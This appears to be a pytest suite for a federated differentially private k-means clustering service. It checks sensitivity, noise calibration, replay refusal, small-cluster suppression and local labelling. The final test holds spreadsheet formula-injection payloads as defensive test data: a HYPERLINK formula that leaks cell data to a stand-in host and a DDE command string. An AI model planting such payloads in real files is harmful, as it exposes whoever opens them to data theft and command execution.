"""Federated DP k-means: sensitivity, noise calibration, suppression, replays, local labelling."""

from __future__ import annotations

import math
from itertools import pairwise
from pathlib import Path

import dp_accounting
import numpy as np
import pandas as pd
import pytest

from coordinator.company_clustering import SiteFederation, run_company_clustering
from coordinator.company_report import outcome_report
from node_agent.declined import NodeDeclined
from node_agent.dp_release import NodeRandomness
from simulations.companies import generate_companies
from simulations.usecase2 import DirectFederation, RecordingGate, sites_from_files
from tasks import clustering
from tasks.clustering_protocol import ClusteringReply, ClusteringRequest, Step, planned_releases
from tasks.companies import ROME_DOMAINS, SECTORS, CompanyFeatures, company_view
from tasks.registry import get_task

FIELDS = get_task("company_clustering").default_fields()


@pytest.fixture(scope="module")
def paths(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return generate_companies(tmp_path_factory.mktemp("companies"), seed=3, companies=1500)


def _extreme_rows() -> pd.DataFrame:
    """Companies at the corners of the feature box (the largest vectors one company can have)."""
    return pd.DataFrame(
        {
            "naf": ["5610A", "0111Z", "6201Z"],
            "size_bracket": ["00", "32", "12"],
            "commune": ["13055", "13055", "06088"],
            "hiring_projects": ["0", "100000", "5"],
            "difficult_projects": ["0", "100000", "5"],
            "seasonal_projects": ["0", "100000", "0"],
            "past_hires": ["0", "999999", "3"],
            "rome_sought": ["", "G1603:100000", "M1805:2|G1603:3"],
            "skill_need": ["", "G1603|A1101|M1805|N1101", "M1805"],
        }
    )


def test_one_company_moves_a_release_by_at_most_its_sensitivity() -> None:
    features = CompanyFeatures(FIELDS)
    x = features.encode(company_view(_extreme_rows()))
    assert np.linalg.norm(x, axis=1).max() <= features.max_norm() + 1e-12
    base = np.zeros((0, features.width))
    for row in x:  # add one company to an empty dataset: the worst case of add/remove
        grid = clustering.CoresetGrid(features)
        before = clustering.cell_statistics(base, np.zeros(0, dtype=int), grid.n_cells)
        after = clustering.cell_statistics(row[None, :], grid.cells(row[None, :]), grid.n_cells)
        assert np.linalg.norm(after - before) <= clustering.release_sensitivity(features) + 1e-12


def test_sigma_composes_to_the_grant_with_an_independent_accountant(paths: dict[str, Path]) -> None:
    sites, _ = sites_from_files(paths, epsilon=1.0, delta=1e-6, lloyd_iterations=3)
    site = sites["france_travail"]
    pld = dp_accounting.pld.PLDAccountant()
    pld.compose(dp_accounting.GaussianDpEvent(site.sigma), planned_releases(3))
    assert pld.get_epsilon(site.delta) == pytest.approx(1.0, abs=0.12)
    assert pld.get_epsilon(site.delta) <= 1.0 + 1e-3  # RDP is the looser: PLD never says more


def test_each_release_is_reserved_then_committed_with_its_noise(paths: dict[str, Path]) -> None:
    sites, _ = sites_from_files(paths, epsilon=1.0, delta=1e-6, lloyd_iterations=2)
    site = sites["carif_oref"]
    site.randomness = NodeRandomness(reproducible_seed=1)  # only so that the test can repeat
    done: set[str] = set()
    exact = clustering.cell_statistics(
        site.x,
        clustering.CoresetGrid(site.features).cells(site.x),
        clustering.CoresetGrid(site.features).n_cells,
    )
    reply = site.answer(ClusteringRequest(Step.CORESET), done)
    gate = site.gate
    assert isinstance(gate, RecordingGate)
    ((request_id, mechanism),) = gate.reserved
    assert gate.committed == [(request_id, mechanism)]
    assert mechanism == {"kind": "gaussian", "noise_multiplier": site.sigma, "count": 1, "delta": site.delta}
    noise = np.asarray(reply.values) - exact
    expected = site.sigma * clustering.release_sensitivity(site.features)
    assert reply.noise_std == pytest.approx(expected)
    assert np.std(noise) == pytest.approx(expected, rel=0.25)  # 80+ draws of N(0, (σΔ)²)


def test_a_replayed_or_extra_release_is_refused_before_any_reservation(paths: dict[str, Path]) -> None:
    sites, _ = sites_from_files(paths, epsilon=1.0, delta=1e-6, lloyd_iterations=1)
    site = sites["apec"]
    done: set[str] = set()
    site.answer(ClusteringRequest(Step.CORESET), done)
    with pytest.raises(NodeDeclined) as replay:
        site.answer(ClusteringRequest(Step.CORESET), done)
    assert replay.value.rule == "dp.replay"
    centres = site.x[:3]
    with pytest.raises(NodeDeclined) as beyond:
        site.answer(ClusteringRequest(Step.LLOYD, 2, centres), done)
    assert beyond.value.rule == "dp.releases"
    assert len(site.gate.reserved) == 1  # type: ignore[attr-defined]


class _Scripted(SiteFederation):
    """Sites whose noisy answers are given: one cluster's noisy size is below the minimum cell."""

    def __init__(self, features: CompanyFeatures, k: int) -> None:
        self.features, self.k, self.declines = features, k, {}

    def ask(self, request: ClusteringRequest) -> dict[str, ClusteringReply]:
        width = self.features.width
        rng = np.random.default_rng(0)
        if request.step == Step.CORESET:
            cells = clustering.CoresetGrid(self.features).n_cells
            sums = rng.uniform(0, 0.5, size=(cells, width)) * 200
            values = np.concatenate([sums.reshape(-1), np.full(cells, 200.0)])
        else:
            counts = np.full(self.k, 500.0)
            counts[-1] = 5.0  # one small cluster
            sums = request.centres * counts[:, None]
            values = np.concatenate([sums.reshape(-1), counts])
        return {"site": ClusteringReply("site", request.step, tuple(values), 1.0, 0.5, 1e-6, 1)}


def test_clusters_under_the_minimum_cell_size_are_not_released() -> None:
    features = CompanyFeatures(FIELDS)
    outcome = run_company_clustering(
        _Scripted(features, 4),
        features,
        k=4,
        lloyd_iterations=1,
        min_cell_size=11,
        min_sites=1,
        seed=0,
        skill_needs=False,
    )
    assert outcome.withheld == 1 and len(outcome.centres) == 3
    report = outcome_report(outcome)
    assert [c["noisy_size"] for c in report["clusters"]] == [500.0, 500.0, 500.0]
    assert clustering.released_clusters(np.array([10.9, 11.0, 50.0]), 11).tolist() == [1, 2]


def test_k_is_argued_on_the_dp_coreset_alone() -> None:
    rng = np.random.default_rng(1)
    blobs = np.repeat(np.eye(5), 8, axis=0) + rng.normal(0, 0.01, size=(40, 5))
    k, curve = clustering.choose_k(clustering.Coreset(blobs, np.full(40, 100.0)), seed=0)
    assert k == 5
    assert all(a >= b for a, b in pairwise(curve[j] for j in sorted(curve)))


def test_local_labelling_stays_at_the_node(paths: dict[str, Path], tmp_path: Path) -> None:
    sites, rows = sites_from_files(paths, epsilon=1.0, delta=1e-6, lloyd_iterations=1)
    for name, site in sites.items():
        site.labels_path = tmp_path / f"{name}.csv"
    federation = DirectFederation(sites)
    outcome = run_company_clustering(
        federation, sites["apec"].features, k=8, lloyd_iterations=1, min_cell_size=11, min_sites=2, seed=0
    )
    n_types = len(outcome.centres)
    assert n_types >= 4 and outcome.precision_at_3 is not None
    for name, site in sites.items():
        labels = pd.read_csv(tmp_path / f"{name}.csv", dtype=str)
        assert labels["siret"].tolist() == rows[name]["siret"].tolist()  # every company, in the holder's file
        expected = clustering.assign(site.x, outcome.centres) + 1
        assert labels["type"].astype(int).tolist() == expected.tolist()
    replies = {r.step: r for r in outcome.sites.values()}
    for reply in outcome.sites.values():  # what left: numbers of a fixed, public shape only
        assert all(isinstance(v, float) for v in reply.values)
    assert len(replies[Step.EVALUATE].values) == 3
    assert outcome.model is not None and outcome.model.rate_sought.shape == (n_types, len(ROME_DOMAINS))
    assert len(SECTORS) == 10 and math.isfinite(outcome.evaluated.value)  # type: ignore[union-attr]


def test_the_coordinator_cannot_choose_the_noise_nor_send_malformed_centres(paths: dict[str, Path]) -> None:
    sites, _ = sites_from_files(paths, epsilon=1.0, delta=1e-6, lloyd_iterations=1)
    site = sites["apec"]
    assert site.randomness.private  # seeded from the OS at the node; no request field carries a seed
    assert "seed" not in ClusteringRequest(Step.CORESET).to_config()
    bad = np.full((3, site.features.width), np.nan)
    with pytest.raises(NodeDeclined) as refused:
        site.answer(ClusteringRequest(Step.LLOYD, 1, bad), set())
    assert refused.value.rule == "protocol"
    assert site.gate.reserved == []  # type: ignore[attr-defined]


def test_a_coordinator_cannot_change_the_release_plan_mid_study(paths: dict[str, Path]) -> None:
    """Deployment rebuilds the session per message from that message's instructions: a coordinator
    that announces 1 Lloyd step (σ for 4 releases), then 3, would get 6 releases at the σ of 4."""
    short, _ = sites_from_files({"apec": paths["apec"]}, epsilon=1.0, delta=1e-6, lloyd_iterations=1)
    longer, _ = sites_from_files({"apec": paths["apec"]}, epsilon=1.0, delta=1e-6, lloyd_iterations=3)
    book: set[str] = set()
    short["apec"].answer(ClusteringRequest(Step.CORESET), book)
    centres = short["apec"].x[:4]
    with pytest.raises(NodeDeclined) as refused:
        longer["apec"].answer(ClusteringRequest(Step.LLOYD, 2, centres), book)
    assert refused.value.rule == "dp.plan_changed"
    assert longer["apec"].gate.reserved == []  # type: ignore[attr-defined]


def test_type_labels_from_the_coordinator_cannot_inject_formulas_into_the_holders_file(
    paths: dict[str, Path], tmp_path: Path
) -> None:
    """The labelling file is opened by counselors in a spreadsheet: a label is the coordinator's text."""
    sites, _ = sites_from_files({"apec": paths["apec"]}, epsilon=1.0, delta=1e-6, lloyd_iterations=1)
    site = sites["apec"]
    site.labels_path = tmp_path / "types.csv"
    centres = site.x[:2]
    evil = ('=HYPERLINK("http://evil.example/?"&A2,"Voir")', "+cmd|' /C calc'!A0")
    site.answer(ClusteringRequest(Step.SKILLS, centres=centres, labels=evil), set())
    labels = pd.read_csv(site.labels_path, dtype=str)["type_label"]
    assert not labels.str.match(r"^[=+\-@\t\r]").any()
